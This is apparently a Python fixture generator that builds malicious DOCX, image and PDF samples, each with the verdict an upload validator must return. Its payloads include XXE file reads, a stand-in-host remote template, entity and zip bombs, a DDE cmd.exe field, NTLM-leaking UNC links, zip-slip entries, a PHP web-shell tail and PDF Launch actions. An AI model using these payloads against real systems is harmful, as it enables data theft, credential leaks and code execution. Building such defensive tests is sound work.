"""Bad documents, pictures and PDFs, each with the answer it must get; bombs are bombs only when unpacked.

`make(folder)` writes them and returns one row per file: id, file, status, code, note. Nothing here is working malware;
every address is 127.0.0.1:9 (discard).
"""

# ruff: noqa — a catalogue reads best with one case per line
# fmt: off
import io
import random
import stat
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

OUT = Path()
MAN: list[dict] = []
EVIL = "http://127.0.0.1:9/x"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def put(group, name, data, status, code, note):
    p = OUT / group / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    MAN.append(dict(id=f"{group}/{name}", file=str(p.relative_to(OUT)), status=status, code=code, note=note))


def zbytes(entries, method=zipfile.ZIP_DEFLATED):
    """entries: list of (name | ZipInfo, data | iterator of chunks)"""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method, compresslevel=9) as z:
        for n, d in entries:
            zi = n if isinstance(n, zipfile.ZipInfo) else zipfile.ZipInfo(n, (2022, 1, 1, 0, 0, 0))
            zi.compress_type = method
            if isinstance(d, (bytes, str)):
                z.writestr(zi, d, compresslevel=9)
            else:
                zi._compresslevel = 9
                with z.open(zi, "w", force_zip64=True) as f:
                    for c in d:
                        f.write(c)
    return b.getvalue()


def chunks(total, unit=b" " * (1 << 20), head=b"", tail=b""):
    yield head
    for _ in range(total // len(unit)):
        yield unit
    yield tail


def unzip(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def rezip(parts):
    return zbytes(list(parts.items()))


# ------------------------------------------------------------------ docx
def docx_base(text="培训总结"):
    import docx
    d = docx.Document(); d.add_heading(text, 1); d.add_paragraph("正文"); b = io.BytesIO(); d.save(b)
    return unzip(b.getvalue())


def docx_doc(body, pre=""):
    return (HEAD + pre + f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>').encode()


def with_part(parts, name, data):
    q = dict(parts); q[name] = data if isinstance(data, bytes) else data.encode(); return q


def add_rel(parts, rels, rel):
    t = parts.get(rels, (HEAD + f'<Relationships xmlns="{PR}"></Relationships>').encode()).decode()
    return with_part(parts, rels, t.replace("</Relationships>", rel + "</Relationships>"))


def make_docx():
    P = docx_base(); rels = "word/_rels/document.xml.rels"; g = "docx"
    T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    put(g, "ok.docx", rezip(P), 200, "ok", "control: a healthy file must pass")
    for nm, typ, tgt, note in [
        ("ext_image", "image", EVIL + ".png", "external image: viewer phones home"),
        ("ext_ole", "oleObject", EVIL + ".bin", "external OLE object"),
        ("ext_frame", "frame", EVIL + ".html", "external frame"),
        ("ext_link_file", "hyperlink", "file:///etc/passwd", "hyperlink with file: scheme"),
        ("ext_link_unc", "hyperlink", r"\\127.0.0.1\share\x", "UNC link leaks NTLM hash"),
        ("ext_link_js", "hyperlink", "javascript:alert(1)", "javascript: link"),
    ]:
        q = add_rel(P, rels, f'<Relationship Id="rIdX" Type="{T}{typ}" Target="{tgt}" TargetMode="External"/>')
        put(g, nm + ".docx", rezip(q), 422, "docx_external_relation", note)
    q = add_rel(P, "word/_rels/settings.xml.rels", f'<Relationship Id="rIdT" Type="{T}attachedTemplate" Target="{EVIL}.dotm" TargetMode="External"/>')
    put(g, "ext_template.docx", rezip(q), 422, "docx_external_relation", "remote template injection")
    q = add_rel(with_part(P, "word/a.html", "<script>alert(1)</script>"), rels, f'<Relationship Id="rIdA" Type="{T}aFChunk" Target="a.html"/>')
    put(g, "altchunk_html.docx", rezip(q), 422, "docx_active_content", "altChunk imports raw HTML")
    q = with_part(P, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    put(g, "vba_part.docx", rezip(q), 422, "docx_active_content", "vbaProject.bin inside a .docx")
    q["[Content_Types].xml"] = q["[Content_Types].xml"].replace(b"wordprocessingml.document.main+xml", b"x").replace(b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-word.document.macroEnabled.main+xml")
    put(g, "docm_renamed.docx", rezip(q), 422, "docx_active_content", "macro-enabled content type, renamed")
    q = with_part(P, "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    put(g, "ole_embedded.docx", rezip(q), 422, "docx_active_content", "embedded OLE object")
    q = with_part(P, "word/activeX/activeX1.xml", "<x/>")
    put(g, "activex.docx", rezip(q), 422, "docx_active_content", "ActiveX control part")
    fld = lambda i: f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{i}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    put(g, "field_dde.docx", rezip(with_part(P, "word/document.xml", docx_doc(fld(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k"')))), 422, "docx_active_content", "DDE field")
    put(g, "field_include.docx", rezip(with_part(P, "word/document.xml", docx_doc(fld(f'INCLUDEPICTURE "{EVIL}" \\d')))), 422, "docx_active_content", "INCLUDEPICTURE/INCLUDETEXT field")
    xxe = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    put(g, "xxe_file.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", xxe))), 422, "xml_dtd", "XXE local file")
    put(g, "xxe_param.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p/>", f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{EVIL}.dtd"> %p;]>'))), 422, "xml_dtd", "blind XXE by parameter entity")
    lol = "<!DOCTYPE w [<!ENTITY a0 \"lollollollol\">" + "".join(f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "]>"
    put(g, "billion_laughs.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", lol))), 422, "xml_dtd", "entity expansion")
    quad = '<!DOCTYPE w [<!ENTITY a "' + "x" * 50000 + '">]>'
    put(g, "quadratic_blowup.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p><w:r><w:t>" + "&a;" * 20000 + "</w:t></w:r></w:p>", quad))), 422, "xml_dtd", "1 GB by one flat entity")
    put(g, "xxe_core_props.docx", rezip(with_part(P, "docProps/core.xml", HEAD + '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/hostname">]><c>&x;</c>')), 422, "xml_dtd", "XXE hidden in a side part")
    put(g, "xxe_rels.docx", rezip(with_part(P, "_rels/.rels", P["_rels/.rels"].replace(b"<Relationships", b'<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/hostname">]><Relationships', 1))), 422, "xml_dtd", "DTD in the package relations")
    n = 100_000
    put(g, "deep_nesting.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p>" * n + "</w:p>" * n))), 422, "xml_too_deep", "100 000 levels")
    ent = [(k, v) for k, v in P.items() if k != "word/document.xml"]
    big = chunks(150 << 20, head=docx_doc("").replace(b"</w:body></w:document>", b"<w:p><w:r><w:t>"), tail=b"</w:t></w:r></w:p></w:body></w:document>")
    put(g, "bomb_document.docx", zbytes(ent + [("word/document.xml", big)]), 413, "archive_too_large", "150 MB document.xml in < 1 MB")
    put(g, "bomb_media.docx", zbytes(list(P.items()) + [("word/media/image1.png", chunks(150 << 20, b"\0" * (1 << 20)))]), 413, "archive_too_large", "150 MB unused media part")
    put(g, "many_entries.docx", zbytes(list(P.items()) + [(f"word/m/{i}", b"") for i in range(8000)]), 422, "archive_too_many", "8 000 empty parts")
    warnings.simplefilter("ignore")
    put(g, "dup_document.docx", zbytes(list(P.items()) + [("word/document.xml", docx_doc("<w:p><w:r><w:t>另一份</w:t></w:r></w:p>"))]), 422, "archive_duplicate", "two word/document.xml: parsers disagree")
    put(g, "zip_slip.docx", zbytes(list(P.items()) + [("../../../../tmp/pwned_by_zip_slip", b"x")]), 422, "archive_path", "entry climbs out")
    put(g, "abs_path.docx", zbytes(list(P.items()) + [("/etc/cron.d/x", b"x")]), 422, "archive_path", "absolute entry name")
    sl = zipfile.ZipInfo("word/link"); sl.create_system = 3; sl.external_attr = (stat.S_IFLNK | 0o777) << 16
    put(g, "symlink.docx", zbytes(list(P.items()) + [(sl, b"/etc/passwd")]), 422, "archive_symlink", "symlink entry")
    put(g, "encrypted_cfb.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16le") + b"\0" * 1000, 422, "file_encrypted", "password-protected Office file (OLE container)")
    ok = rezip(P)
    put(g, "truncated.docx", ok[:-60], 422, "file_damaged", "central directory cut")
    put(g, "truncated_half.docx", ok[:len(ok) // 2], 422, "file_damaged", "half a file (upload broken off)")
    bad = bytearray(ok); i = ok.find(b"word/document.xml") + 60; bad[i] ^= 0xFF
    put(g, "crc_error.docx", bytes(bad), 422, "file_damaged", "one bit flipped")
    put(g, "empty.docx", b"", 422, "file_empty", "zero bytes")
    put(g, "eocd_only.docx", b"PK\5\6" + b"\0" * 18, 422, "file_type", "empty zip")
    put(g, "no_document.docx", rezip({k: v for k, v in P.items() if k != "word/document.xml"}), 422, "file_damaged", "main part missing")
    put(g, "not_zip.docx", "你好".encode(), 422, "file_type", "plain text")
    put(g, "html_renamed.docx", b"<html><script>alert(1)</script></html>", 422, "file_type", "HTML renamed")
    put(g, "rtf_renamed.docx", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", 422, "file_type", "RTF with an object, renamed")
    put(g, "ssti_text.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p><w:r><w:t>{{ ''.__class__.__mro__ }} {% for x in range(10**9) %}{% endfor %}</w:t></w:r></w:p>"))), 200, "ok", "template syntax in a user's text: must come out as text, never be rendered")
    put(g, "bad_charref.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p><w:r><w:t>&#0;&#x1F;</w:t></w:r></w:p>"))), 422, "file_damaged", "illegal XML characters")
    put(g, "utf16.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p/>").decode().replace("UTF-8", "UTF-16").encode("utf-16"))), 200, "ok", "UTF-16 XML is legal; a byte-level '<!DOCTYPE' filter would miss it")
    put(g, "utf16_xxe.docx", rezip(with_part(P, "word/document.xml", docx_doc("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", xxe).decode().replace("UTF-8", "UTF-16").encode("utf-16"))), 422, "xml_dtd", "XXE in UTF-16 slips past byte filters")
    put(g, "junk_prefix.docx", b"MZ" + b"\x90" * 400 + ok, 422, "file_type", "zip with an EXE-like prefix (zipfile opens it)")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="{EVIL}"/></svg>'
    put(g, "media_svg_script.docx", rezip(with_part(P, "word/media/image1.svg", svg)), 422, "docx_active_content", "scripted SVG in media")
    rows = "".join("<w:tr>" + "<w:tc><w:p/></w:tc>" * 63 + "</w:tr>" for _ in range(3000))
    put(g, "huge_table.docx", rezip(with_part(P, "word/document.xml", docx_doc(f"<w:tbl>{rows}</w:tbl>"))), 422, "docx_too_complex", "189 000 cells: python-docx is quadratic here")
    q = with_part(P, "docProps/core.xml", P["docProps/core.xml"].replace(b"<dc:creator>python-docx</dc:creator>", "<dc:creator>张三 110101199001011237</dc:creator>".encode()))
    put(g, "pii_metadata.docx", rezip(q), 200, "ok", "metadata carries a person's ID: must be stripped from what we publish")
    lie = bytearray(zbytes([("word/document.xml", b"A" * 5_000_000)])); j = lie.rfind(b"PK\1\2"); lie[j + 24:j + 28] = struct.pack("<I", 100); lie[22:26] = struct.pack("<I", 100)
    put(g, "size_lie.docx", bytes(lie), 422, "file_damaged", "headers say 100 bytes, stream gives 5 MB")


# ------------------------------------------------------------------ images
def png(w, h, rows, extra=b""):
    ch = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    c = zlib.compressobj(9); z = b"".join(c.compress(r) for r in rows) + c.flush()
    return b"\x89PNG\r\n\x1a\n" + ch(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)) + extra + ch(b"IDAT", z) + ch(b"IEND", b"")


def make_img():
    from PIL import Image
    g = "img"
    def jpg(size=(64, 64), **k):
        b = io.BytesIO(); Image.new("RGB", size, (200, 30, 30)).save(b, "JPEG", **k); return b.getvalue()
    J = jpg(); put(g, "ok.jpg", J, 200, "ok", "control")
    put(g, "pixel_flood.png", png(50000, 50000, (b"\0" * 6251 for _ in range(50000))), 422, "image_too_large", "2.5 gigapixel, 0.3 MB")
    put(g, "pixel_header.png", png(65535, 65535, [b"\0"]), 422, "image_too_large", "huge header, no data")
    put(g, "pixel_flood.gif", b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00\x3b", 422, "image_too_large", "4-gigapixel GIF")
    zt = lambda n: (lambda d: struct.pack(">I", len(d)) + b"zTXt" + d + struct.pack(">I", zlib.crc32(b"zTXt" + d)))(b"k\0\0" + zlib.compress(b"\0" * n, 9))
    put(g, "ztxt_bomb.png", png(8, 8, [b"\0\0"] * 8, zt(200 << 20)), 422, "image_damaged", "200 MB text chunk")
    put(g, "truncated.jpg", J[:len(J) // 2], 422, "image_damaged", "cut"); put(g, "header_only.jpg", b"\xff\xd8\xff\xe0", 422, "image_damaged", "4 bytes of magic"); put(g, "empty.jpg", b"", 422, "file_empty", "zero bytes")
    p = bytearray(png(8, 8, [b"\0\0"] * 8)); p[-20] ^= 255; put(g, "crc.png", bytes(p), 422, "image_damaged", "bad CRC")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    put(g, "script.svg", svg, 422, "file_type", "SVG is not on the list"); put(g, "svg_as.png", svg, 422, "file_type", "SVG renamed"); put(g, "html_as.jpg", b"<html><script>alert(1)</script>", 422, "file_type", "HTML renamed")
    put(g, "php_tail.jpg", J + b"<?php system($_GET[0]); ?>", 200, "ok_rewritten", "trailing code: the stored image is re-encoded, tail gone")
    z = zbytes([("a.txt", b"hi")]); put(g, "jpg_zip.jpg", J + z, 200, "ok_rewritten", "JPEG+ZIP polyglot: tail gone after re-encoding")
    put(g, "gif_js.gif", b"GIF89a/*" + struct.pack("<H", 1) + b"\x80\0\0\0\0\0\xff\xff\xff*/=1;alert(1)//;", 422, "file_type", "GIF/JS polyglot; GIF not on the list")
    com = b"<script>alert(1)</script>"; put(g, "comment_xss.jpg", J[:2] + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + com + J[2:], 200, "ok_rewritten", "HTML in a comment segment")
    ex = Image.Exif(); ex[0x8825] = {1: "N", 2: (40.0, 50.0, 0.0), 3: "E", 4: (111.0, 45.0, 0.0)}; ex[0x010F] = "张三的手机"; ex[0x0112] = 6
    put(g, "exif_gps.jpg", jpg(exif=ex.tobytes()), 200, "ok_rewritten", "GPS, owner: removed; orientation applied")
    put(g, "eps_as.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(%pipe%id) (r) file\n", 422, "file_type", "PostScript: Pillow would call Ghostscript; open with formats=[JPEG,PNG]")
    b = io.BytesIO(); fr = [Image.new("L", (64, 64), i % 255) for i in range(3000)]; fr[0].save(b, "GIF", save_all=True, append_images=fr[1:], duration=1); put(g, "frames_3000.gif", b.getvalue()[:1 << 20], 422, "file_type", "3 000 frames")
    b = io.BytesIO(); Image.new("CMYK", (64, 64)).save(b, "JPEG"); put(g, "ok_cmyk.jpg", b.getvalue(), 200, "ok_rewritten", "CMYK photo from a print shop: accept, convert")
    b = io.BytesIO(); Image.new("RGB", (64, 64)).save(b, "WEBP"); put(g, "webp_as.jpg", b.getvalue(), 422, "file_type", "WebP renamed (phones do that): name the real type")
    put(g, "tiff_dims.tif", b"II*\0\x08\0\0\0" + struct.pack("<H", 3) + struct.pack("<HHII", 256, 4, 1, 100000) + struct.pack("<HHII", 257, 4, 1, 100000) + struct.pack("<HHII", 273, 4, 1, 8) + b"\0\0\0\0", 422, "file_type", "TIFF with 10-gigapixel header")
    put(g, "ok_1x1.png", png(1, 1, [b"\0\0"]), 422, "image_too_small", "1×1 pixel as a photo of a class")


# ------------------------------------------------------------------ pdf
def pdf(objs, root=1, head=b"%PDF-1.4\n", trailer=b""):
    o = bytearray(head); offs = []
    for i, body in enumerate(objs, 1):
        offs.append(len(o)); o += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    x = len(o); o += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % k for k in offs)
    return bytes(o + b"trailer<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, root, trailer, x))


def make_pdf():
    g = "pdf"; pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"; page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
    cat = lambda extra=b"": b"<</Type/Catalog/Pages 2 0 R%s>>" % extra
    put(g, "ok.pdf", pdf([cat(), pages, page]), 200, "ok", "control")
    put(g, "javascript.pdf", pdf([cat(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), pages, page]), 422, "pdf_active_content", "OpenAction JavaScript")
    put(g, "javascript_hexname.pdf", pdf([cat(b"/OpenAction<</S/J#61vaScript/JS<6170702e616c657274>>>"), pages, page]), 422, "pdf_active_content", "name written with #61: a grep for /JavaScript misses it")
    put(g, "launch.pdf", pdf([cat(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), pages, page]), 422, "pdf_active_content", "Launch action")
    put(g, "submitform.pdf", pdf([cat(b"/OpenAction<</S/SubmitForm/F(" + EVIL.encode() + b")>>"), pages, page]), 422, "pdf_active_content", "SubmitForm")
    put(g, "embedded_file.pdf", pdf([cat(b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>"), pages, page, b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]), 422, "pdf_active_content", "attachment inside")
    put(g, "uri_unc.pdf", pdf([cat(b"/AA<</WC<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\s\\\\x)/D[0/Fit]>>>>"), pages, page]), 422, "pdf_active_content", "GoToR to a UNC path")
    put(g, "encrypted.pdf", pdf([cat(), pages, page, b"<</Filter/Standard/V 1/R 2/O(0)/U(0)/P -4>>"], trailer=b"/Encrypt 4 0 R"), 422, "file_encrypted", "encrypted")
    bomb = zlib.compress(zlib.compress(b"\0" * (300 << 20), 9), 9)
    put(g, "flate_bomb.pdf", pdf([cat(), pages, page[:-2] + b"/Contents 4 0 R>>", b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(bomb) + bomb + b"\nendstream"]), 200, "ok_not_rendered", "300 MB behind two filters: we store, never inflate")
    put(g, "page_loop.pdf", pdf([cat(), b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]), 422, "file_damaged", "page tree points at itself")
    put(g, "xref_loop.pdf", pdf([cat(), pages, page]).replace(b"trailer<<", b"trailer<</Prev 9 "), 422, "file_damaged", "Prev loop")
    put(g, "truncated.pdf", pdf([cat(), pages, page])[:120], 422, "file_damaged", "cut"); put(g, "html_head.pdf", b"<html><script>alert(1)</script>\n" + pdf([cat(), pages, page]), 422, "file_type", "HTML before %PDF: polyglot"); put(g, "exe_as.pdf", b"MZ" + b"\0" * 100, 422, "file_type", "EXE renamed"); put(g, "no_pages.pdf", pdf([cat(), b"<</Type/Pages/Kids[]/Count 0>>"]), 422, "pdf_no_pages", "0 pages")
    put(g, "pages_claim.pdf", pdf([cat(), b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", page]), 200, "ok", "Count lies: never size a list by it")


def make(folder):
    return collect(folder, make_docx, make_img, make_pdf)


def collect(folder, *groups):
    global OUT
    OUT = Path(folder)
    MAN.clear()
    random.seed(1)
    with warnings.catch_warnings():
        for group in groups:
            group()
    return list(MAN)
